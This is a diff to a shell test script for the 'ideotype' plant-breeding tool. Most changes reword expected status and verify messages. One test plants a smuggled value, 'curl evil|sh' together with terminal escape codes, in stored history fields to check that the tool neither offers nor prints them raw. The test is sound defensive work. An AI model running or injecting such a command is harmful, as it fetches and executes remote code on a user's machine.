@@ -6,11 +6,11 @@
 # A history of version 0.2.0, repacked by h5repack.
 old=$project/tests/data/history/format_2_0.h5
 expect 0 "$ideotype" status "$old"
-says "finished by stop.generations, 24 of 24 plants in 4 generations, best "
-passed="ideotype: warning: .*the campaign of this history has keys that this version does not have"
+says "finished (reached stop.generations), 24 of 24 plants in 4 generations, best "
+passed="ideotype: warning: .*the campaign of this history has keys that this version lacks"
 says "$passed (light.first_tolerance, search.adapts_learning_rates, search.restarts, search.smallest_step, search.window, stop.stagnation, stop.target);"
 expect 0 "$ideotype" verify "$old"
-says "header, 4 generations and 3 finalists have their checksums"
+says "header, 4 generations and 3 finalists match their checksums"
 expect 0 "$ideotype" export "$old" --generations --to old.csv
 [ "$(wc -l <old.csv)" -eq 25 ] || fail "not a line for each row and a head"
 expect 0 "$ideotype" export "$old" --best --to bred.toml
@@ -28,7 +28,7 @@ history=$(history_of results flipped)
 expect 0 "$ideotype" status "$history"
 ! grep -q "$passed" out.log || fail "a history of today warns: $(cat out.log)"
 expect 0 "$ideotype" verify "$history"
-says "header, 3 generations and 4 finalists have their checksums"
+says "header, 3 generations and 4 finalists match their checksums"
 cp "$history" whole.h5
 # Flips a byte: $1 a dataset, $2 the place of the byte, $3 the damaged part, $4
 # the new byte.
@@ -77,11 +77,11 @@ expect 0 "$ideotype" status "$history"
 says "^  .*ideotype run campaigns/flipped.toml --resume$"
 write_text /sessions/command 'ideotype run x.toml; curl evil|sh # \033[1A'
 expect 0 "$ideotype" status "$history"
-! grep -q "evil\|go on with" out.log || fail "offered: $(cat out.log)"
+! grep -q "evil\|resume with" out.log || fail "offered: $(cat out.log)"
 write_text /state/finished '\001'
 write_text /state/reason 'gen\033]0;evil\007\302\233'
 expect 0 "$ideotype" status "$history"
-says 'finished by stop.gen\\x1b\]0;evil\\x07\\xc2\\x9b'
+says 'finished (reached stop.gen\\x1b\]0;evil\\x07\\xc2\\x9b)'
 
 # The result of h5repack reads the same. With -L it can also be resumed.
 cp whole.h5 "$history"
@@ -92,9 +92,9 @@ for option in "" -L; do
     h5dump -p -H -d /evaluations/genome "$history" | grep -q DEFLATE ||
         fail "nothing is compressed"
     expect 0 "$ideotype" verify "$history"
-    says "header, 3 generations and 4 finalists have their checksums"
+    says "header, 3 generations and 4 finalists match their checksums"
     expect 0 "$ideotype" status "$history"
-    says "finished by stop.generations"
+    says "finished (reached stop.generations)"
     expect 0 "$ideotype" evaluate "$history" --best
     says "agrees bit for bit"
     expect 0 "$ideotype" export "$history" --generations --to "packed$option.csv"
